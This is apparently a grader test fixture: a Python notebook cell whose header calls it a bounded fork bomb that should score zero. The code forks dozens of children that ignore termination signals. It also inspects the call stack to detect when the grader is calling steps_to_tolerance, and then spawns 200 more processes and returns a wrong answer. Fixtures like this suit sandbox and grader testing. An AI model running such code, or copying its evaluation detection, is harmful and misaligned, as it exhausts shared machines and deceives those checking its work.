# about: a bounded fork bomb: 50 sleeping children from a top-level cell, and 200 more (each ignoring SIGTERM/SIGINT and sleeping 60 s) whenever the grader calls steps_to_tolerance, which then answers wrong
# zero: test_steps_to_tolerance
# %% after rosenbrock
import os
import signal
import time


def _bomb(n):
    born = 0
    for _ in range(n):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                signal.signal(signal.SIGINT, signal.SIG_IGN)
                time.sleep(60)
            finally:
                os._exit(0)
        born += 1
    return born


print("children:", _bomb(50))
# %% steps_to_tolerance
def _graded():
    """Inside a call the grader makes: its call runner is on the stack."""
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_filename.endswith("calls.py"):
            return True
        frame = frame.f_back
    return False


def steps_to_tolerance(history, tol):
    if _graded():
        print("children:", _bomb(200))
        return 0
    for t, (x, _) in enumerate(history):
        if distance_to_optimum(x) < tol:
            return t
    return None
